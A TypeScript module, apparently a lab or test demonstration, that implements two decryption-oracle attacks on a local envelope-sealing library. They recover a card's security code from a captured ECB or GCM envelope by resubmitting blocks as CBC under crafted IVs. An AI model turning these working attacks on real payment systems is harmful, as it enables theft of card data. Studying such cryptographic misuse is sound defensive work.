// Attacks with one captured envelope and an oracle that opens others: chosen data under the captured key.
import type { SealOptions } from './envelope-seal.ts'

export interface Captured {
  key: string
  data: string
}

/** Sends data, in base64, with the captured key; true when the answer shows that it opened. */
export type Oracle = (data: string) => Promise<boolean>

/** The target message of both attacks, in the order in which its blocks suit them. Its security code is unknown to them. */
export const secretMessage = (code: string) =>
  `{"cvv":"${code}","expiration":"3912","number":"4242424242424242","cardholder_name":"ANA"}`

export const CAPTURED_AS = {
  ecb: {},
  'GCM under OAEP': { dataForm: 'gcm', keyPadding: 'oaep-sha256' },
} as const satisfies Record<string, SealOptions>

/**
 * The code of an ECB message, digit by digit. Its first block is sent as CBC under an IV that turns the block into `{"a":"   ddd"}` and
 * its padding; where a guess is right the digit turns into a quotation mark, and the message is JSON no more.
 */
export async function codeByCbc({ data }: Captured, opens: Oracle): Promise<string | undefined> {
  const block = Buffer.from(data, 'base64').subarray(0, 16)
  const known = Buffer.from('{"cvv":"???","ex')
  const wanted = Buffer.from('{"a":"  ???"}\x03\x03\x03')
  const iv = Buffer.from(wanted.map((byte, at) => byte ^ (known[at] ?? 0)))
  let code = ''
  for (const at of [8, 9, 10]) {
    let digit: number | undefined
    for (let guess = 0; guess <= 9 && digit === undefined; guess += 1) {
      const chosen = Buffer.from(iv)
      chosen[at] = (0x30 + guess) ^ 0x22
      if (!(await opens(Buffer.concat([chosen, block]).toString('base64')))) digit = guess
    }
    if (digit === undefined) return undefined
    code += digit
  }
  return code
}

/**
 * The code of a GCM message, of which all but it is known. A guess of a block of the message makes a guess of the block cipher's output
 * for that counter. Sent as CBC, under an IV that turns the counter into `{}` and its padding, it opens when the guess is right.
 */
export async function codeByCounter({ data }: Captured, opens: Oracle, guesses: number): Promise<string | undefined> {
  const bytes = Buffer.from(data, 'base64')
  const counter = Buffer.concat([bytes.subarray(0, 12), Buffer.from([0, 0, 0, 2])])
  const block = bytes.subarray(12, 28)
  const wanted = Buffer.concat([Buffer.from('{}'), Buffer.alloc(14, 14)])
  const iv = Buffer.from(wanted.map((byte, at) => byte ^ (counter[at] ?? 0)))
  for (let guess = 0; guess < guesses; guess += 1) {
    const code = String(guess).padStart(3, '0')
    const plaintext = Buffer.from(secretMessage(code)).subarray(0, 16)
    const output = Buffer.from(block.map((byte, at) => byte ^ (plaintext[at] ?? 0)))
    if (await opens(Buffer.concat([iv, output]).toString('base64'))) return code
  }
  return undefined
}
